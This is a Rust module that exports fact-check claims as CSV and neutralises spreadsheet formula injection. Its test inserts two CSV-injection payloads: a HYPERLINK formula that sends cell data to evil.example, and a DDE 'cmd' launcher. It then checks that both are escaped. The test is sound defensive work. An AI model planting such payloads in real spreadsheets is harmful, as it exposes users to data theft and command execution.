//! One CSV row per claim, for spreadsheets and newsroom scripts.
//!
//! Columns: `id, status, claim, quote, start, end, claimant, sources, note`. `id` is the
//! claim's number as people know it ("Claim #7"), not its internal id. `status` is
//! the verdict's display name; `start`/`end` are character offsets (end exclusive);
//! `sources` lists the source URLs joined by [`SOURCE_SEPARATOR`].
//!
//! Text cells that a spreadsheet would run as a formula (starting with `=`, `+`,
//! `-`, `@`, a tab or a carriage return: claims are quoted from the web) get a
//! leading `'`, as OWASP recommends; [`Cells::Raw`] (`--raw-csv`) turns that off
//! for scripts that read the text exactly.

use super::ExportError;
use crate::model::Session;

/// What joins several source URLs in the `sources` column: space, vertical bar, space.
/// URLs cannot contain a raw space, so splitting on it is unambiguous.
pub const SOURCE_SEPARATOR: &str = " | ";

/// The column headers, in order.
pub const HEADERS: [&str; 9] = [
    "id", "status", "claim", "quote", "start", "end", "claimant", "sources", "note",
];

/// How text cells are written.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub enum Cells {
    /// Cells that would start a formula get a leading `'` (the default).
    #[default]
    Neutralised,
    /// Every cell exactly as in the session (for scripts, not spreadsheets).
    Raw,
}

/// Every claim in article order as CSV (RFC 4180 quoting, `\n` line ends, a header
/// row), with formula-like cells neutralised.
pub fn to_csv(session: &Session) -> Result<String, ExportError> {
    to_csv_with(session, Cells::Neutralised)
}

/// [`to_csv`] choosing how text cells are written.
pub fn to_csv_with(session: &Session, cells: Cells) -> Result<String, ExportError> {
    let text = |s: &'_ str| -> String {
        match cells {
            Cells::Neutralised => super::escape::csv_cell(s).into_owned(),
            Cells::Raw => s.to_owned(),
        }
    };
    let csv_err = |e: ::csv::Error| ExportError::Csv(e.to_string());
    let mut writer = ::csv::WriterBuilder::new()
        .terminator(::csv::Terminator::Any(b'\n'))
        .from_writer(Vec::new());
    writer.write_record(HEADERS).map_err(csv_err)?;
    for c in &session.claims {
        let sources: Vec<&str> = c.sources.iter().map(|s| s.url.trim()).collect();
        writer
            .write_record([
                c.number.to_string(),
                text(session.scheme.name_of(&c.status)),
                text(&c.text),
                text(&c.anchor.exact),
                c.anchor.start.to_string(),
                c.anchor.end.to_string(),
                text(&c.claimant),
                text(&sources.join(SOURCE_SEPARATOR)),
                text(&c.note),
            ])
            .map_err(csv_err)?;
    }
    let bytes = writer
        .into_inner()
        .map_err(|e| ExportError::Csv(e.to_string()))?;
    String::from_utf8(bytes).map_err(|e| ExportError::Csv(e.to_string()))
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Issue 15, item 8: formula cells were written raw.
    #[test]
    fn formula_cells_are_neutralised_unless_raw() {
        let mut s = crate::sample::sample_session();
        let evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")";
        s.claims[0].text = evil.into();
        s.claims[0].claimant = "+cmd|'/C calc'!A0".into();
        s.claims[0].note = "@SUM(1)".into();
        let rows = |csv: &str| -> Vec<Vec<String>> {
            ::csv::Reader::from_reader(csv.as_bytes())
                .records()
                .map(|r| r.unwrap().iter().map(str::to_owned).collect())
                .collect()
        };
        let safe = rows(&to_csv(&s).unwrap());
        assert_eq!(safe[0][2], format!("'{evil}"));
        assert_eq!(safe[0][6], "'+cmd|'/C calc'!A0");
        assert_eq!(safe[0][8], "'@SUM(1)");
        for row in &safe {
            for cell in row {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{cell}"
                );
            }
        }
        let raw = rows(&to_csv_with(&s, Cells::Raw).unwrap());
        assert_eq!(raw[0][2], evil);
        assert_eq!(raw[0][6], "+cmd|'/C calc'!A0");
        // Numbers stay numbers.
        assert_eq!(safe[0][4], s.claims[0].anchor.start.to_string());
    }
}
